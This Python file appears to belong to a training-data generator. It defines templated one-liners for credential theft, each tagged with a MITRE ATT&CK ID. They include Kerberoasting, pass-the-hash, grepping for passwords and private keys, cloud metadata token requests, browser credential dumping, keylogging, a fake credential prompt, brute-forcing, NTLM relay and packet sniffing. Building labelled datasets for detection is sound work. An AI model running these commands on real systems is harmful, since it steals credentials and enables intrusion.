"""Classic one-liners of tickets, stored secrets, guessing and listening."""

from __future__ import annotations

from training.generators.grammar import parse_templates

CLASSIC_SECRET_LINES = parse_templates(
    r"""
# T1558.003
ac-rubeus-kerberoast cmd +T1558.003: Rubeus.exe kerberoast
ac-setspn-t-q cmd +T1558.003: setspn -T ‹fqdn› -Q */*
ac-invoke-kerberoast powershell +T1558.003: Invoke-Kerberoast
ac-getuserspns-py-dc bash +T1558.003: GetUserSPNs.py ‹fqdn›/‹user›:'‹pass›' -dc-ip ‹ip› -request
# T1558.004
ac-rubeus-asreproast-nowrap cmd +T1558.004: Rubeus.exe asreproast /nowrap
ac-getnpusers-py-usersfile bash +T1558.004: GetNPUsers.py ‹fqdn›/ -usersfile users.txt -no-pass -dc-ip ‹ip›
# T1558.001
ac-ticketer-py-nthash bash +T1558.001: ticketer.py -nthash ‹hash› -domain-sid S-1-5-21-‹pid›1-‹pid›2-‹pid›3 -domain ‹fqdn› Administrator
# T1550.002
ac-mimikatz-sekurlsa-pth cmd +T1550.002: mimikatz.exe "sekurlsa::pth /user:Administrator /domain:‹domain› /ntlm:‹hash›"
ac-psexec-py-hashes bash +T1550.002: psexec.py -hashes :‹hash› Administrator@‹ip›
ac-evil-winrm-i bash +T1550.002: evil-winrm -i ‹ip› -u Administrator -H ‹hash›
ac-pth-winexe-u bash +T1550.002: pth-winexe -U ‹domain›/‹user›%aad3b435b51404eeaad3b435b51404ee:‹hash› //‹ip› cmd
# T1550.003
ac-rubeus-ptt-ticket cmd +T1550.003: Rubeus.exe ptt /ticket:‹name›.kirbi
ac-mimikatz-kerberos-ptt cmd +T1550.003: mimikatz.exe "kerberos::ptt ‹name›.kirbi" exit
# T1552.001
ac-findstr-si-password cmd +T1552.001: findstr /si password *.txt *.xml *.ini
ac-findstr-spin-password cmd +T1552.001: findstr /spin "password" *.*
ac-dir-s-b cmd +T1552.001: dir /s /b *pass*.txt *cred*.txt
ac-type-windows-panther cmd +T1552.001: type C:\Windows\Panther\unattend.xml
ac-get-childitem-recurse powershell +T1552.001: Get-ChildItem C:\ -Recurse -Include *.txt,*.xml,*.config | Select-String -Pattern password
ac-ls-r-include powershell +T1552.001: ls -R -Include *.ps1 | sls 'ConvertTo-SecureString'
ac-grep-ri-password bash +T1552.001: grep -ri password /etc /home /var/www 2>/dev/null
ac-grep-rn-aws bash +T1552.001: grep -rn "aws_secret_access_key" / 2>/dev/null
ac-find-name-wp bash +T1552.001: find / -name "wp-config.php" -exec grep DB_PASSWORD {} \; 2>/dev/null
ac-cat-aws-credentials bash +T1552.001: cat ~/.aws/credentials
ac-cat-git-credentials bash +T1552.001: cat ~/.git-credentials ~/.netrc
# T1552.002
ac-reg-query-hklm-n4 cmd +T1552.002: reg query HKLM /f password /t REG_SZ /s
ac-reg-query-hkcu cmd +T1552.002: reg query HKCU /f password /t REG_SZ /s
ac-reg-query-hkcu-n2 cmd +T1552.002: reg query "HKCU\Software\SimonTatham\PuTTY\Sessions" /s
ac-reg-query-hklm-n5 cmd +T1552.002: reg query "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" /v DefaultPassword
# T1552.003
ac-cat-bash-history bash +T1552.003: cat ~/.bash_history | grep -i pass
ac-grep-ie-pass bash +T1552.003: grep -iE 'pass|sshpass|mysql -p' /home/*/.bash_history
ac-get-content-get powershell +T1552.001: Get-Content (Get-PSReadLineOption).HistorySavePath | Select-String password
# T1552.004
ac-dir-s-b-n2 cmd +T1552.004: dir /s /b C:\Users\*.pfx C:\Users\*.pem C:\Users\*id_rsa
ac-find-name-id bash +T1552.004: find / -name id_rsa 2>/dev/null
ac-cat-home-ssh bash +T1552.004: cat /home/*/.ssh/id_rsa
ac-find-type-f bash +T1552.004: find / -type f \( -name "*.pem" -o -name "*.key" -o -name "*.ppk" \) 2>/dev/null
ac-grep-rl-begin bash +T1552.004: grep -rl "BEGIN OPENSSH PRIVATE KEY" /home /root 2>/dev/null
# T1552.005
ac-curl-http-169 bash +T1552.005: curl http://169.254.169.254/latest/meta-data/iam/security-credentials/
ac-curl-h-metadata bash +T1552.005: curl -H "Metadata-Flavor: Google" http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token
ac-irm-http-169 powershell +T1552.005: irm http://169.254.169.254/latest/meta-data/iam/security-credentials/
# T1552.006
ac-findstr-s-cpassword cmd +T1552.006: findstr /S cpassword \\‹fqdn›\SYSVOL\*.xml
ac-findstr-s-i cmd +T1552.006: findstr /S /I cpassword %logonserver%\sysvol\*.xml
ac-get-gpppassword powershell +T1552.006: Get-GPPPassword
# T1555.003
ac-copy-localappdata-google cmd +T1555.003: copy "%LOCALAPPDATA%\Google\Chrome\User Data\Default\Login Data" ‹file›
ac-lazagne-browsers cmd +T1555.003: laZagne.exe browsers
ac-webbrowserpassview-stext cmd +T1555.003: WebBrowserPassView.exe /stext ‹file›
ac-sharpchrome-logins cmd +T1555.003: SharpChrome.exe logins
# T1555.004
ac-vaultcmd-listcreds-windows cmd +T1555.004: vaultcmd /listcreds:"Windows Credentials"
ac-rundll32-keymgr-dll cmd +T1555.004: rundll32.exe keymgr.dll,KRShowKeyMgr
# T1555.005
ac-dir-s-b-n3 cmd +T1555.005: dir /s /b C:\*.kdbx
# T1555
ac-lazagne-all cmd +T1555: laZagne.exe all
# T1539
ac-copy-appdata-mozilla cmd +T1539: copy "%APPDATA%\Mozilla\Firefox\Profiles\‹name›.default-release\cookies.sqlite" ‹file›
# T1056.001
ac-get-keystrokes-logpath powershell +T1056.001: Get-Keystrokes -LogPath $env:TEMP\‹name›.log
ac-xinput-test-tmp bash +T1056.001: xinput test ‹n› > /tmp/‹name›
ac-script-q-f bash +T1056.001: script -q -f /tmp/.‹name›/tty.log
# T1056.002
ac-host-ui-promptforcredential powershell +T1056.002: $c = $Host.UI.PromptForCredential('Windows Security','Enter your password',$env:USERNAME,''); $c.GetNetworkCredential().Password
# T1110.001
ac-hydra-l-root bash +T1110.001: hydra -l root -P /usr/share/wordlists/rockyou.txt ssh://‹ip›
ac-medusa-h-u bash +T1110.001: medusa -h ‹ip› -u administrator -P passwords.txt -M smbnt
ac-ncrack-u-administrator bash +T1110.001: ncrack -u administrator -P ‹name›.txt rdp://‹ip›
ac-patator-ssh-login bash +T1110.001: patator ssh_login host=‹ip› user=root password=FILE0 0=‹name›.txt
# T1110.003
ac-invoke-domainpasswordspray-password powershell +T1110.003: Invoke-DomainPasswordSpray -Password ‹pass›
ac-nxc-smb-u-n4 bash +T1110.003: nxc smb ‹ip› -u users.txt -p '‹pass›' --continue-on-success
ac-kerbrute-passwordspray-d bash +T1110.003: kerbrute passwordspray -d ‹fqdn› users.txt '‹pass›'
# T1110.002
ac-hashcat-m-1000 bash +T1110.002: hashcat -m 1000 hashes.txt rockyou.txt
ac-john-wordlist-rockyou bash +T1110.002: john --wordlist=rockyou.txt ‹name›.hash
ac-hashcat-m-13100 bash +T1110.002: hashcat -m 13100 -a 0 spns.txt rockyou.txt --force
# T1557.001
ac-responder-i-eth0 bash +T1557.001: responder -I eth0 -wrf
ac-ntlmrelayx-py-tf bash +T1557.001: ntlmrelayx.py -tf targets.txt -smb2support
ac-invoke-inveigh-consoleoutput powershell +T1557.001: Invoke-Inveigh -ConsoleOutput Y -NBNS Y -mDNS Y
# T1187
ac-python3-petitpotam-py bash +T1187: python3 PetitPotam.py ‹ip› ‹ip›
ac-printerbug-py bash +T1187: printerbug.py ‹domain›/‹user›:'‹pass›'@‹ip› ‹ip›
# T1040
ac-tcpdump-i-eth0 bash +T1040: tcpdump -i eth0 -w /tmp/‹name›.pcap
ac-tcpdump-i-any bash +T1040: tcpdump -i any -A 'port 21 or port 110' | grep -iE 'user|pass'
ac-tshark-i-eth0 bash +T1040: tshark -i eth0 -c 500 -w /tmp/‹name›.pcap
ac-netsh-trace-start cmd +T1040: netsh trace start capture=yes tracefile=‹dir›\‹name›.etl
ac-pktmon-start-etw cmd +T1040: pktmon start --etw -f ‹dir›\‹name›.etl
ac-windump-i-1 cmd +T1040: windump.exe -i 1 -w ‹file›
"""
)
